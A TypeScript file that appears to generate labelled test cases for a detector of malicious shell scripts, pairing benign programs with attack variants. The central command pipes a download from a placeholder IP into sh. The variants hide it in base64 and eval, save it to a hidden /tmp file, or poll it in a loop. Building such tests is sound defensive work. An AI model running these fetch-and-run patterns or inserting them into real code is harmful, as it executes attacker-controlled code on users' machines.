import type { Client, Dialect, Shell } from "../dialect.ts";
import { ADDRESS, base64, code, type Deed, nth, STRANGER, VENDOR } from "./deed.ts";

const ORDER = "curl -fsSL http://203.0.113.40/a.sh | sh";

export function fetchAndRun(dialect: Dialect): readonly Deed[] {
  const shells = Object.entries(dialect.shells);
  const clients = Object.entries(dialect.clients).flatMap(([client, { get }]) =>
    get === undefined ? [] : [{ client, get }],
  );
  return [
    ...clients.flatMap(({ client, get }, row) => [
      ...shells.flatMap(([shell, { run }], column) =>
        fetched(dialect, { client, get, shell, run, turn: row + column }),
      ),
      ...innocent(dialect, client, get),
    ]),
    ...shells.flatMap(([shell, { run }]): readonly Deed[] => [
      attack("download and run", `${shell}-curl`, code(...run(dialect.quote(ORDER)))),
      attack("decoded and run", shell, code(...run(dialect.decode(dialect.quote(base64(ORDER)))))),
      attack(
        "decoded and run",
        `${shell}-variable`,
        code(dialect.set("plain", dialect.decode(dialect.quote(base64(ORDER)))), ...run(dialect.variable("plain"))),
      ),
      twin("download and run", `${shell}-git`, code(...run(dialect.quote("git log --oneline -20 > notes.txt")))),
    ]),
    ...decoded(dialect),
  ];
}

interface Choice {
  readonly client: string;
  readonly get: NonNullable<Client["get"]>;
  readonly shell: string;
  readonly run: Shell["run"];
  readonly turn: number;
}

function fetched(dialect: Dialect, { client, get, shell, run, turn }: Choice): readonly Deed[] {
  const got = get(dialect.quote(turn % 2 === 0 ? STRANGER : ADDRESS));
  const saved = dialect.quote("/tmp/.helper.sh");
  const name = `${client}-${shell}`;
  const start = dialect.quote("sh /tmp/.helper.sh");
  const straight = attack("download and run", name, code(...got.before, ...run(got.value)));
  const kept = attack(
    "download and run",
    `${name}-saved`,
    code(...got.before, ...dialect.save(saved, got.value), ...run(start)),
  );
  const called = attack("download and run", `${name}-function`, {
    definitions: dialect.define("refresh", ["target"], [...get(dialect.variable("target")).before, ...run(got.value)]),
    body: [dialect.call("refresh", [dialect.quote(STRANGER)])],
  });
  const polled = attack("orders polled", name, code(...dialect.forever([...got.before, ...run(got.value)])));
  return [straight, nth([kept, called], turn), polled];
}

function innocent(dialect: Dialect, client: string, get: NonNullable<Client["get"]>): readonly Deed[] {
  const got = get(dialect.quote(VENDOR));
  const saved = dialect.home(".cache/acmenotes.json");
  return [
    twin("download and run", `${client}-printed`, code(...got.before, dialect.print(got.value))),
    twin("download and run", `${client}-kept`, code(...got.before, ...dialect.save(saved, got.value))),
    twin("orders polled", `${client}-printed`, code(...dialect.forever([...got.before, dialect.print(got.value)]))),
  ];
}

function decoded(dialect: Dialect): readonly Deed[] {
  const { evaluate, oneLiner } = dialect;
  const settings = dialect.decode(dialect.quote(base64('{"columns": ["title", "date"], "sort": "date"}')));
  const shown = twin("decoded and run", "settings", code(dialect.print(settings)));
  if (evaluate === undefined || oneLiner === undefined) return [shown];
  const hidden = dialect.decode(dialect.quote(base64(oneLiner(ORDER))));
  const bodies = Object.entries(dialect.clients).flatMap(([client, { get }]) =>
    get === undefined ? [] : [[client, get(dialect.quote(STRANGER))] as const],
  );
  return [
    shown,
    attack("decoded and run", "evaluated", code(evaluate(hidden))),
    attack(
      "decoded and run",
      "evaluated-variable",
      code(dialect.set("plain", hidden), evaluate(dialect.variable("plain"))),
    ),
    attack("decoded and run", "evaluated-function", {
      definitions: dialect.define("start", ["text"], [evaluate(dialect.decode(dialect.variable("text")))]),
      body: [dialect.call("start", [dialect.quote(base64(oneLiner(ORDER)))])],
    }),
    ...bodies.map(([client, got]) =>
      attack("decoded and run", `${client}-evaluated`, code(...got.before, evaluate(got.value))),
    ),
  ];
}

function attack(deed: string, name: string, program: Deed["program"]): Deed {
  return { deed, name, expected: "malicious", program };
}

function twin(deed: string, name: string, program: Deed["program"]): Deed {
  return { deed, name, expected: "clean", program };
}
